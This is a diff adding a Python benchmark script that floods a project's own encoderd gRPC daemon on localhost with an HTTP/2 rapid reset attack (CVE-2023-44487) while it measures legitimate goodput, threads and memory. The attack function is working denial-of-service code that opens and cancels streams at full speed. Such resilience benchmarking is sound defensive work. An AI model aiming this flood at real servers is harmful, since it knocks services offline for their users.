@@ -1,0 +1,181 @@
+#!/usr/bin/env python3
+"""HTTP/2 rapid reset against `encoderd serve`: legitimate goodput, daemon
+threads and RSS while one client opens Embed streams and resets them at once
+(the CVE-2023-44487 pattern).
+
+Starts the daemon on the default model, measures legitimate clients alone
+(encoderd-loadtest, closed loop), then again while --attackers processes each
+run the attack on --connections connections: HEADERS + the request's DATA +
+RST_STREAM(CANCEL) per stream, as fast as they can, answering the server's
+SETTINGS and PINGs. Prints the goodput of both runs, the streams the attack
+opened, and the daemon's peak thread count and RSS during it. Benchmark, not
+a test: figures in docs/reliability.md.
+
+    /usr/bin/python3 loadtest/scripts/rapid_reset.py [--seconds 8] [--attackers 1]
+"""
+import argparse
+import json
+import multiprocessing
+import pathlib
+import socket
+import struct
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+
+REPO = pathlib.Path(__file__).resolve().parents[2]
+sys.path.insert(0, str(REPO / "tests" / "e2e"))
+from e2e_common import start_daemon  # noqa: E402
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def embed_request_bytes(text):
+    raw = text.encode()
+    message = b"\x0a" + bytes([len(raw)]) + raw  # EmbedRequest.texts = [text]
+    return b"\x00" + struct.pack(">I", len(message)) + message
+
+
+def attack(port, seconds, connections, counter):
+    import hpack
+    import hyperframe.frame as hf
+    socks = []
+    for _ in range(connections):
+        s = socket.create_connection(("127.0.0.1", port))
+        s.sendall(PREFACE + hf.SettingsFrame(0).serialize())
+        s.setblocking(False)
+        socks.append([s, hpack.Encoder(), 1, b""])
+    headers = [(":method", "POST"), (":scheme", "http"), (":path", "/encoderd.v1.Encoder/Embed"),
+               (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
+               ("te", "trailers")]
+    body = embed_request_bytes("rapid reset")
+    sent = 0
+    end = time.time() + seconds
+    while time.time() < end and socks:
+        for entry in list(socks):
+            s, encoder, stream, buf = entry
+            out = []
+            for _ in range(50):
+                out.append(hf.HeadersFrame(stream, data=encoder.encode(headers),
+                                           flags=["END_HEADERS"]).serialize())
+                out.append(hf.DataFrame(stream, data=body).serialize())
+                out.append(hf.RstStreamFrame(stream, error_code=8).serialize())
+                stream += 2
+            entry[2] = stream
+            try:
+                s.setblocking(True)
+                s.sendall(b"".join(out))
+                s.setblocking(False)
+                sent += 50
+                while True:
+                    data = s.recv(65536)
+                    if not data:
+                        raise ConnectionError("closed by the server")
+                    buf += data
+            except BlockingIOError:
+                pass
+            except OSError:
+                socks.remove(entry)  # GOAWAY / reset by the server: the attack on it ends
+                continue
+            while len(buf) >= 9:  # answer SETTINGS and PING so the connection stays up
+                frame, length = hf.Frame.parse_frame_header(memoryview(buf[:9]))
+                if len(buf) < 9 + length:
+                    break
+                frame.parse_body(memoryview(buf[9:9 + length]))
+                buf = buf[9 + length:]
+                reply = None
+                if isinstance(frame, hf.SettingsFrame) and "ACK" not in frame.flags:
+                    reply = hf.SettingsFrame(0, flags=["ACK"])
+                elif isinstance(frame, hf.PingFrame) and "ACK" not in frame.flags:
+                    reply = hf.PingFrame(0, flags=["ACK"], opaque_data=frame.opaque_data)
+                elif isinstance(frame, hf.GoAwayFrame):
+                    socks.remove(entry)
+                    break
+                if reply:
+                    s.setblocking(True)
+                    s.sendall(reply.serialize())
+                    s.setblocking(False)
+            entry[3] = buf
+    with counter.get_lock():
+        counter.value += sent
+
+
+def proc_status(pid):
+    fields = {}
+    for line in pathlib.Path(f"/proc/{pid}/status").read_text().splitlines():
+        key, _, value = line.partition(":")
+        fields[key] = value.strip()
+    return int(fields["Threads"]), int(fields["VmRSS"].split()[0]) * 1024
+
+
+def loadtest(args, port, seconds):
+    out = subprocess.run([args.loadtest, "--target", f"127.0.0.1:{port}", "--rpc", "embed",
+                          "--mode", "closed", "--concurrency", str(args.clients),
+                          "--duration", str(seconds), "--warmup", "1", "--timeout-ms", "5000",
+                          "--words", "8-24", "--json"], capture_output=True, text=True)
+    report = json.loads(out.stdout[out.stdout.index("{"):])
+    return report
+
+
+def main():
+    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
+    p.add_argument("--binary", default=str(REPO / "build" / "cli" / "encoderd"))
+    p.add_argument("--loadtest", default=str(REPO / "build" / "loadtest" / "encoderd-loadtest"))
+    p.add_argument("--model-dir", default=str(REPO / "models" / "langid"))
+    p.add_argument("--seconds", type=int, default=8)
+    p.add_argument("--clients", type=int, default=16)
+    p.add_argument("--attackers", type=int, default=1)
+    p.add_argument("--connections", type=int, default=4)
+    args = p.parse_args()
+    with tempfile.TemporaryDirectory() as tmp:
+        daemon = start_daemon(args.binary, ["--model-name", "langid", "--model-dir", args.model_dir],
+                              pathlib.Path(tmp) / "serve.log")
+        pid = daemon.proc.pid
+        try:
+            alone = loadtest(args, daemon.port, args.seconds)
+            threads0, rss0 = proc_status(pid)
+            counter = multiprocessing.Value("l", 0)
+            attackers = [multiprocessing.Process(target=attack, args=(daemon.port, args.seconds + 2,
+                                                                       args.connections, counter))
+                         for _ in range(args.attackers)]
+            for a in attackers:
+                a.start()
+            peak = [threads0, rss0]
+            stop = threading.Event()
+
+            def sample():
+                while not stop.is_set():
+                    t, r = proc_status(pid)
+                    peak[0], peak[1] = max(peak[0], t), max(peak[1], r)
+                    time.sleep(0.05)
+            sampler = threading.Thread(target=sample)
+            sampler.start()
+            time.sleep(0.5)
+            attacked = loadtest(args, daemon.port, args.seconds)
+            for a in attackers:
+                a.join()
+            stop.set()
+            sampler.join()
+            threads1, rss1 = proc_status(pid)
+            alive = daemon.proc.poll() is None
+        finally:
+            daemon.stop()
+
+    def summary(r):
+        ok = r["requests_ok"] / r["elapsed_s"]
+        return (f"{ok:.0f} OK calls/s, {r['requests_error']} errors {r['errors_by_code']}, "
+                f"p99 {r['latency']['p99_us'] / 1000:.1f} ms")
+    print(f"legitimate alone:        {summary(alone)}")
+    print(f"legitimate under attack: {summary(attacked)}")
+    print(f"attack: {counter.value} streams opened and reset in {args.seconds + 2} s by "
+          f"{args.attackers} process(es) x {args.connections} connection(s) "
+          f"({counter.value / (args.seconds + 2):.0f}/s)")
+    print(f"daemon: threads {threads0} -> peak {peak[0]} -> {threads1} after; RSS "
+          f"{rss0 / 2**20:.0f} -> peak {peak[1] / 2**20:.0f} -> {rss1 / 2**20:.0f} MiB; "
+          f"{'still running' if alive else 'DIED'}")
+
+
+if __name__ == "__main__":
+    main()
